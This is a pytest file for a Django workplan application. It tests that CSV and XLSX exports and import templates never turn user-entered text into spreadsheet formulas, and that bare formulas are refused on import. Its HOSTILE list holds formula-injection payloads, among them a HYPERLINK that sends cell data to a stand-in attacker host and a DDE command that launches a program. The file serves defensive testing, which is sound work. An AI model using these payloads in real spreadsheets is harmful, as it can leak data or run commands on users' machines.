"""No text we write into a spreadsheet becomes a formula, and our own files
import back as the text they hold.

Hostile text goes where people type it (a theme's title, an item's title,
description, sponsor and RAG reason, a department's name, an officer's
name); the import templates and the exports are opened as a spreadsheet
would open them (openpyxl for XLSX, the csv module for CSV).
"""

import csv
import io
from datetime import date, datetime
from decimal import Decimal

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from django.urls import reverse
from openpyxl import Workbook, load_workbook

from governance.history import save_with_reason
from governance.models import Membership
from governance.spreadsheets import append_row, csv_value, unquote
from workplan.importers import (
    ImportRefused,
    read_rows,
    save,
    template_csv,
    template_xlsx,
    validate,
)
from workplan.models import Department, WorkplanItem

from ..base import make_workplan

#: What a spreadsheet would run (OWASP's examples, and a tab in front).
HOSTILE = [
    '=HYPERLINK("http://attacker.invalid/?leak="&A1,"Click")',
    "+1",
    "-2+3",
    "@SUM(1)",
    "\t=1",
    "\r=1",
    "\n =1",
    "=cmd|' /C calc'!A0",
]


def every_cell(book):
    for sheet in book.worksheets:
        for row in sheet.iter_rows():
            yield from row


def assert_no_formula(book):
    formulas = [
        (cell.parent.title, cell.coordinate, cell.value)
        for cell in every_cell(book)
        if cell.data_type == "f"
    ]
    assert formulas == []


def assert_text_cell(cell, text):
    # A workbook holds a line break as "\n" (a "\r" would come back as one).
    assert cell.value == text.replace("\r", "\n")
    assert cell.data_type == "s"
    assert cell.quotePrefix, "risky text must keep the quote prefix"


def csv_cells(data):
    return list(csv.reader(io.StringIO(data.decode("utf-8-sig"))))


def department(council, name):
    return save_with_reason(
        Department(organisation=council, name=name), user=None, reason="Test set-up"
    )


# --- the shared writer -------------------------------------------------------------


@pytest.mark.parametrize("text", HOSTILE)
def test_risky_text_is_quoted_in_csv_and_unquoted_on_reading(text):
    assert csv_value(text) == "'" + text
    assert unquote(csv_value(text)) == (text, True)


@pytest.mark.parametrize(
    "value",
    ["", "Plain words", "'Twas brillig", "a=b", "5-2", "£25,000", 0, -2, 12.5],
)
def test_harmless_values_are_written_to_csv_as_they_are(value):
    assert csv_value(value) == value
    if isinstance(value, str):
        assert unquote(value) == (value, False)


def test_numbers_dates_and_empty_cells_keep_their_type_in_a_workbook():
    book = Workbook(write_only=True)
    sheet = book.create_sheet("Values")
    values = [-2, 12.5, Decimal("1234.50"), date(2023, 4, 3), None, "-2", "text"]
    append_row(sheet, values)
    out = io.BytesIO()
    book.save(out)

    row = next(load_workbook(out)["Values"].iter_rows())

    assert [cell.value for cell in row[:3]] == [-2, 12.5, 1234.5]
    assert all(cell.data_type == "n" for cell in row[:3])
    assert row[3].is_date and row[3].value == datetime(2023, 4, 3)
    assert row[4].value is None
    assert_text_cell(row[5], "-2")  # typed as text: stays text
    assert row[6].value == "text" and not row[6].quotePrefix


def test_characters_a_workbook_cannot_hold_are_dropped_not_an_error():
    book = Workbook(write_only=True)
    sheet = book.create_sheet("Values")
    append_row(sheet, ["bell\x07 and\x00 null", "=1\x1b"])
    out = io.BytesIO()
    book.save(out)

    row = next(load_workbook(out)["Values"].iter_rows())

    assert row[0].value == "bell and null"
    assert_text_cell(row[1], "=1")


# --- the import templates ----------------------------------------------------------


@pytest.mark.parametrize("text", HOSTILE)
def test_a_hostile_theme_title_and_department_name_are_text_in_both_templates(
    cast, business, text
):
    strategy = business.draft_strategy
    theme = strategy.themes.get(position=1)
    theme.title = text
    save_with_reason(theme, user=cast.officer, reason="Test set-up")
    Department.objects.filter(organisation=cast.council_a).delete()
    department(cast.council_a, text)
    workplan = make_workplan(cast, strategy, 2026)

    book = load_workbook(io.BytesIO(template_xlsx(workplan)))

    assert_no_formula(book)
    items = book["Workplan items"]
    header = [cell.value for cell in items[1]]
    example = dict(zip(header, items[2], strict=True))
    assert_text_cell(example["Theme"], text)
    assert_text_cell(example["Departments"], text)
    guidance = {row[0].value: row[2] for row in book["Guidance"].iter_rows()}
    assert_text_cell(guidance["Departments"], text)
    assert f"1 – {text}".replace("\r", "\n") in guidance["Theme"].value

    header, example = csv_cells(template_csv(workplan))
    example = dict(zip(header, example, strict=True))
    assert example["Theme"] == "'" + text
    assert example["Departments"] == "'" + text

    # Each template imports its example row with the theme and department.
    for data in (template_xlsx(workplan), template_csv(workplan)):
        result = validate(workplan, read_rows(data))
        assert result.errors == []
        assert result.items[0].item.theme == theme
        assert [d.name for d in result.items[0].departments] == [text]


def test_the_templates_keep_their_dates_and_numbers(cast, business):
    workplan = make_workplan(cast, business.draft_strategy, 2026)
    items = load_workbook(io.BytesIO(template_xlsx(workplan)))["Workplan items"]
    example = dict(zip([c.value for c in items[1]], items[2], strict=True))

    assert example["Start date"].is_date
    assert example["Start date"].value == datetime(2026, 4, 1)
    assert example["Budget"].data_type == "n" and example["Budget"].value == 25000
    assert example["Percent complete"].data_type == "n"
    header, values = csv_cells(template_csv(workplan))
    assert dict(zip(header, values, strict=True))["Start date"] == "2026-04-01"


# --- the exports of workplan items ---------------------------------------------------


@pytest.fixture
def hostile_item(cast, business):
    """Business's workplan item with hostile text in every text column."""

    def make(text):
        item = business.item
        theme = item.theme
        theme.title = f"{text} theme"
        save_with_reason(theme, user=cast.officer, reason="Test set-up")
        cast.officer.first_name = f"{text} Officer"
        cast.officer.save()
        item.title = f"{text} title"
        item.description = f"{text} description"
        item.sponsor = f"{text} sponsor"
        item.rag, item.rag_reason = "red", f"{text} reason"
        item.budget = Decimal("1234.50")
        item.percent_complete = 40
        item.start_date, item.target_date = date(2023, 4, 3), date(2023, 9, 29)
        item.lead_officer = Membership.objects.get(
            user=cast.officer, organisation=cast.council_a
        )
        save_with_reason(item, user=cast.officer, reason="Test set-up")
        item.departments.set([department(cast.council_a, f"{text} department")])
        return item

    return make


def export(client, workplan, extension):
    url = reverse(f"workplan:workplan_export_{extension}", args=[workplan.pk])
    response = client.get(url)
    assert response.status_code == 200
    if extension == "csv":
        return b"".join(response.streaming_content)
    return response.content


def hostile_columns(text, officer):
    """The text columns of `hostile_item`'s row, as given."""
    return {
        "Title": f"{text} title",
        "Theme": f"{text} theme",
        "Departments": f"{text} department",
        "Lead officer": officer.get_full_name(),
        "Sponsor": f"{text} sponsor",
        "RAG reason": f"{text} reason",
    }


@pytest.mark.parametrize("text", HOSTILE)
def test_hostile_text_in_every_exported_column_is_never_a_formula(
    cast, business, client_for, hostile_item, text
):
    item = hostile_item(text)
    officer = client_for(cast.officer)

    book = load_workbook(io.BytesIO(export(officer, item.workplan, "xlsx")))
    assert_no_formula(book)
    sheet = book["Items"]
    exported = dict(zip([c.value for c in sheet[1]], sheet[2], strict=True))
    for column, value in hostile_columns(text, cast.officer).items():
        assert_text_cell(exported[column], value)
    # Real numbers and dates stay numbers and dates.
    assert exported["Start date"].is_date
    assert exported["Start date"].value == datetime(2023, 4, 3)
    assert exported["Budget"].data_type == "n"
    assert exported["Budget"].value == 1234.5
    assert exported["Percent complete"].data_type == "n"
    assert exported["Percent complete"].value == 40
    assert not exported["Reference"].quotePrefix

    header, values = csv_cells(export(officer, item.workplan, "csv"))
    exported = dict(zip(header, values, strict=True))
    for column, value in hostile_columns(text, cast.officer).items():
        assert exported[column] == "'" + value
    assert exported["Start date"] == "2023-04-03"
    assert exported["Budget"] == "1234.50"
    assert exported["Percent complete"] == "40"
    assert exported["Reference"] == "WP01"


@pytest.mark.parametrize("extension", ["csv", "xlsx"])
@pytest.mark.parametrize("text", HOSTILE)
def test_our_own_export_imports_back_as_the_text_it_holds(
    cast, business, client_for, hostile_item, text, extension
):
    """Imported into the next year's workplan of the same strategy. Spaces,
    tabs and line breaks around a value are trimmed on import (as the app's
    forms trim them), so "\\t=1" comes back as "=1"."""
    item = hostile_item(text)
    data = export(client_for(cast.officer), item.workplan, extension)
    following_year = make_workplan(cast, item.workplan.strategy, 2024)

    result = validate(following_year, read_rows(data))
    assert result.errors == []
    assert save(following_year, result, cast.officer, filename=f"x.{extension}") == 1

    copy = WorkplanItem.objects.get(workplan=following_year)
    assert copy.title == f"{text} title".strip()
    assert copy.theme == item.theme
    assert copy.sponsor == f"{text} sponsor".strip()
    assert copy.rag_reason == f"{text} reason".strip()
    assert copy.lead_officer == item.lead_officer
    assert list(copy.departments.all()) == list(item.departments.all())
    assert (copy.start_date, copy.budget, copy.percent_complete) == (
        date(2023, 4, 3),
        Decimal("1234.50"),
        40,
    )


# --- importing text that was marked as text ---------------------------------------


def test_a_csv_cell_we_quoted_imports_as_its_text_but_a_bare_formula_is_refused(
    cast, business
):
    workplan = make_workplan(cast, business.draft_strategy, 2026)
    header = "Reference,Title,Description,Category,Work type\r\n"
    quoted = SimpleUploadedFile(
        "q.csv",
        (
            header + "Q1,'=SUM(A1),'@cmd,C,urgent\r\n"
            "Q2,'Twas the plan,'-2+3,C,urgent\r\n"
        ).encode(),
    )
    result = validate(workplan, read_rows(quoted))
    assert result.errors == []
    assert [(r.item.title, r.item.description) for r in result.items] == [
        ("=SUM(A1)", "@cmd"),
        ("'Twas the plan", "-2+3"),
    ]

    bare = SimpleUploadedFile("b.csv", (header + "Q3,=SUM(A1),,C,urgent\r\n").encode())
    with pytest.raises(ImportRefused, match="in cell B2"):
        read_rows(bare)


def test_a_workbook_cell_marked_as_text_imports_but_a_formula_cell_is_refused(
    cast, business
):
    workplan = make_workplan(cast, business.draft_strategy, 2026)
    book = Workbook()
    sheet = book.active
    sheet.append(["Reference", "Title", "Description", "Category", "Work type"])
    append_row(sheet, ["Q1", "=SUM(A1)", "+cmd", "C", "urgent"])  # text, marked
    out = io.BytesIO()
    book.save(out)

    result = validate(workplan, read_rows(out.getvalue()))

    assert [(r.item.title, r.item.description) for r in result.items] == [
        ("=SUM(A1)", "+cmd")
    ]
    sheet.append(["Q2", "=SUM(A1)", "", "C", "urgent"])  # a real formula
    out = io.BytesIO()
    book.save(out)
    with pytest.raises(ImportRefused, match="in cell B3"):
        read_rows(out.getvalue())
